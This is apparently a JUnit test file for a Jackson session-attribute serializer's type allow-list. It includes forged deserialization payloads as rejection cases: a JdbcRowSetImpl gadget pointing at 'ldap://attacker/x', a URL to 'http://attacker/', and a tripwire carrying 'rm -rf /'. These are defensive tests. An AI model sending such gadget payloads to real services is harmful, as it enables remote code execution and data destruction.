package io.github.wxsession.redis.attribute;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.github.wxsession.redis.attribute.apptypes.Envelope;
import io.github.wxsession.redis.attribute.apptypes.Guess;
import io.github.wxsession.redis.attribute.apptypes.Level;
import io.github.wxsession.redis.attribute.gadget.Tripwire;
import java.math.BigDecimal;
import java.math.BigInteger;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.time.DayOfWeek;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.time.LocalTime;
import java.time.Month;
import java.time.MonthDay;
import java.time.OffsetDateTime;
import java.time.OffsetTime;
import java.time.Period;
import java.time.Year;
import java.time.YearMonth;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.time.ZonedDateTime;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class JacksonWxSessionAttributeSerializerTest {

    private final JacksonWxSessionAttributeSerializer serializer = JacksonWxSessionAttributeSerializer.builder()
            .allowPackages("io.github.wxsession.redis.attribute.apptypes").build();

    static Stream<Object> builtInValues() {
        return Stream.of("hi", "", "引号\"与 emoji 😀", true, false, 42, -7, Integer.MAX_VALUE, 42L, Long.MIN_VALUE,
                (short) 7, (byte) -3, 1.5f, 4.2, 1.0, Double.NaN, Double.NEGATIVE_INFINITY, 'x',
                new BigInteger("123456789012345678901234567890"), new BigDecimal("1.50"),
                UUID.fromString("123e4567-e89b-12d3-a456-426614174000"),
                Instant.parse("2024-05-01T10:15:30.123Z"), LocalDate.of(2024, 5, 1), LocalTime.of(10, 15),
                LocalDateTime.of(2024, 5, 1, 10, 15), OffsetDateTime.parse("2024-05-01T10:15+08:00"),
                OffsetTime.parse("10:15+08:00"), ZonedDateTime.parse("2024-05-01T10:15+08:00[Asia/Shanghai]"),
                Duration.ofMinutes(90), Period.of(1, 2, 3), Year.of(2024), YearMonth.of(2024, 5),
                MonthDay.of(5, 1), ZoneId.of("Asia/Shanghai"), ZoneOffset.ofHours(8), DayOfWeek.MONDAY, Month.MAY);
    }

    @ParameterizedTest
    @MethodSource("builtInValues")
    void builtInValueComesBackEqualAndOfTheSameType(Object value) {
        Object back = roundTrip(value);

        assertThat(back).isEqualTo(value);
        assertThat(back.getClass()).isEqualTo(value.getClass());
    }

    @Test
    void integersLongsAndDoublesKeepTheirTypes() {
        assertThat(roundTrip(42)).isInstanceOf(Integer.class);
        assertThat(roundTrip(42L)).isInstanceOf(Long.class);
        assertThat(roundTrip(42.0)).isInstanceOf(Double.class);
        // Long.equals(Integer) is false, so equal lists hold Longs.
        assertThat(roundTrip(List.of(1L, 2L))).isEqualTo(List.of(1L, 2L));
    }

    @Test
    void commonValuesCarryNoTypeInformation() {
        assertThat(json("hi")).isEqualTo("\"hi\"");
        assertThat(json(42)).isEqualTo("42");
        assertThat(json(true)).isEqualTo("true");
        assertThat(json(4.2)).isEqualTo("4.2");
        assertThat(json(List.of(1, 2, 3))).isEqualTo("[1,2,3]");
        assertThat(json(Map.of("n", 3))).isEqualTo("{\"n\":3}");
    }

    @Test
    void otherValuesCarryOneShortTag() {
        assertThat(json(42L)).isEqualTo("{\"@Long\":42}");
        assertThat(json(new BigDecimal("1.50"))).isEqualTo("{\"@BigDecimal\":1.50}");
        assertThat(json(LocalDate.of(2024, 5, 1))).isEqualTo("{\"@LocalDate\":\"2024-05-01\"}");
        assertThat(json(new Guess(3, 2L, Level.EASY, List.of(50, 25)))).isEqualTo(
                "{\"@io.github.wxsession.redis.attribute.apptypes.Guess\":"
                        + "{\"number\":3,\"attempts\":2,\"level\":\"EASY\",\"history\":[50,25]}}");
    }

    @Test
    void listsKeepOrderNullsAndTheTypesOfTheirElements() {
        List<Object> list = new ArrayList<>(Arrays.asList(1, null, 2L, "three", LocalDate.of(2024, 5, 1)));

        assertThat(roundTrip(list)).isEqualTo(list).isInstanceOf(ArrayList.class);
        assertThat(roundTrip(List.of(1, 2, 3))).isEqualTo(List.of(1, 2, 3));
    }

    @Test
    void setsAndMapsComeBackEqual() {
        Map<String, Object> nested = new LinkedHashMap<>();
        nested.put("score", 42);
        nested.put("big", 10_000_000_000L);
        nested.put("tags", Set.of("a", "b"));
        nested.put("inner", Map.of("day", LocalDate.of(2024, 5, 1)));

        assertThat(roundTrip(Set.of(1, 2, 3))).isEqualTo(Set.of(1, 2, 3));
        assertThat(roundTrip(nested)).isEqualTo(nested);
        assertThat(roundTrip(new TreeMap<>(Map.of(2, "two", 1, "one")))).isEqualTo(Map.of(1, "one", 2, "two"));
    }

    @Test
    void mapKeysThatLookLikeTagsAreEscaped() {
        Map<String, Object> map = new LinkedHashMap<>();
        map.put("@Long", "not a tag");
        map.put("@", 1);
        map.put("@@x", 2);

        assertThat(json(map)).isEqualTo("{\"@@Long\":\"not a tag\",\"@@\":1,\"@@@x\":2}");
        assertThat(roundTrip(map)).isEqualTo(map);
    }

    @Test
    void applicationTypesInAnAllowedPackageComeBackAsThemselves() {
        Guess guess = new Guess(3, 5_000_000_000L, Level.HARD, List.of(50, 25));

        assertThat(roundTrip(guess)).isEqualTo(guess);
        assertThat(roundTrip(Level.EASY)).isEqualTo(Level.EASY);
        assertThat(roundTrip(List.of(guess, Map.of("last", guess)))).isEqualTo(List.of(guess, Map.of("last", guess)));
    }

    @Test
    void singleClassesCanBeAllowedWithoutTheirPackage() {
        JacksonWxSessionAttributeSerializer onlyGuess = JacksonWxSessionAttributeSerializer.builder()
                .allowClasses(Guess.class, URI.class).build();
        Guess guess = new Guess(3, 1L, null, List.of());

        assertThat(onlyGuess.deserialize(onlyGuess.serialize(guess))).isEqualTo(guess);
        assertThat(onlyGuess.deserialize(onlyGuess.serialize(URI.create("https://example.com/a"))))
                .isEqualTo(URI.create("https://example.com/a"));
        assertThatThrownBy(() -> onlyGuess.serialize(Level.EASY))
                .isInstanceOf(WxSessionAttributeSerializationException.class);
    }

    @Test
    void disallowedTypeIsRefusedOnWriteSayingHowToAllowIt() {
        JacksonWxSessionAttributeSerializer builtInsOnly = JacksonWxSessionAttributeSerializer.builder().build();

        assertThatThrownBy(() -> builtInsOnly.serialize(new Guess(1, 1L, Level.EASY, List.of())))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("io.github.wxsession.redis.attribute.apptypes.Guess is not")
                .hasMessageContaining("allowPackages(\"io.github.wxsession.redis.attribute.apptypes\")");
        assertThatThrownBy(() -> serializer.serialize(List.of(1, Optional.of(2))))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("java.util.Optional is not");
        assertThatThrownBy(() -> serializer.serialize(new int[] {1}))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("List instead of an array");
        assertThatThrownBy(() -> serializer.serialize(new StringBuilder("x")))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("java.lang.StringBuilder");
    }

    @Test
    void forgedPayloadNamingADisallowedClassIsRefusedBeforeTheClassIsLoaded() {
        String forged = "{\"@" + Tripwire.class.getName() + "\":{\"command\":\"rm -rf /\"}}";

        assertThatThrownBy(() -> read(forged))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("refusing to decode a session attribute of type " + Tripwire.class.getName())
                .hasMessageContaining("not on the allow-list");
        assertThat(System.getProperty(Tripwire.PROPERTY)).isNull();
    }

    @Test
    void knownGadgetClassesAreRefusedAnywhereInAValue() {
        assertThatThrownBy(() -> read("{\"@com.sun.rowset.JdbcRowSetImpl\":"
                + "{\"dataSourceName\":\"ldap://attacker/x\",\"autoCommit\":true}}"))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("com.sun.rowset.JdbcRowSetImpl: not on the allow-list");
        assertThatThrownBy(() -> read("[1,{\"k\":{\"@java.net.URL\":\"http://attacker/\"}}]"))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("java.net.URL: not on the allow-list");
    }

    @Test
    void jacksonPolymorphismInsideAnApplicationTypeIsHeldToTheAllowList() {
        Envelope allowed = new Envelope(new ArrayList<>(List.of(1, 2)));
        assertThat(roundTrip(allowed)).isEqualTo(allowed);

        String forged = "{\"@" + Envelope.class.getName() + "\":{\"payload\":{\"@class\":\""
                + Tripwire.class.getName() + "\",\"command\":\"x\"}}}";
        assertThatThrownBy(() -> read(forged))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining(Tripwire.class.getName());
        assertThat(System.getProperty(Tripwire.PROPERTY)).isNull();
    }

    @Test
    void malformedPayloadsAreRefusedClearly() {
        for (String malformed : List.of("", "{\"a\":", "42 43", "nope", "12345678901", "{\"@Long\":\"x\"}",
                "{\"@LocalDate\":\"2024-13-01\"}", "{\"@Byte\":300}", "{\"@Character\":\"xy\"}",
                "{\"@Long\":1,\"extra\":2}", "{\"a\":1,\"@Long\":2}", "{\"@Set\":1}", "{\"@Map\":[1]}",
                "{\"@Nope\":1}")) {
            assertThatThrownBy(() -> read(malformed)).as(malformed)
                    .isInstanceOf(WxSessionAttributeSerializationException.class)
                    .message().satisfiesAnyOf(
                            message -> assertThat(message).startsWith("malformed session attribute"),
                            message -> assertThat(message).startsWith("refusing to decode"));
        }
    }

    @Test
    void nestingIsBoundedBothWays() {
        List<Object> selfContaining = new ArrayList<>();
        selfContaining.add(selfContaining);

        assertThatThrownBy(() -> serializer.serialize(selfContaining))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("contain itself");
        assertThatThrownBy(() -> read("[".repeat(101) + "]".repeat(101)))
                .isInstanceOf(WxSessionAttributeSerializationException.class)
                .hasMessageContaining("nested deeper than 100");
        assertThat(read("[".repeat(100) + "]".repeat(100))).isInstanceOf(List.class);
    }

    @Test
    void jdkPackagesAndNonsenseCannotBeAllowedWholesale() {
        assertThatIllegalArgumentException()
                .isThrownBy(() -> JacksonWxSessionAttributeSerializer.builder().allowPackages("java.util").build())
                .withMessageContaining("JDK packages");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> JacksonWxSessionAttributeSerializer.builder().allowPackages("com..bot").build())
                .withMessageContaining("package name");
        assertThatIllegalArgumentException()
                .isThrownBy(() -> JacksonWxSessionAttributeSerializer.builder().allowPackages("").build())
                .withMessageContaining("package name");
    }

    @Test
    void allowedPackageCoversItsSubPackagesButNotItsNamesakes() {
        JacksonWxSessionAttributeSerializer parent = JacksonWxSessionAttributeSerializer.builder()
                .allowPackages("io.github.wxsession.redis").build();
        JacksonWxSessionAttributeSerializer namesake = JacksonWxSessionAttributeSerializer.builder()
                .allowPackages("io.github.wxsession.redis.attr").build();

        assertThat(parent.deserialize(parent.serialize(Level.HARD))).isEqualTo(Level.HARD);
        assertThatThrownBy(() -> namesake.serialize(Level.HARD))
                .isInstanceOf(WxSessionAttributeSerializationException.class);
    }

    private Object roundTrip(Object value) {
        return serializer.deserialize(serializer.serialize(value));
    }

    private String json(Object value) {
        return new String(serializer.serialize(value), StandardCharsets.UTF_8);
    }

    private Object read(String json) {
        return serializer.deserialize(json.getBytes(StandardCharsets.UTF_8));
    }
}
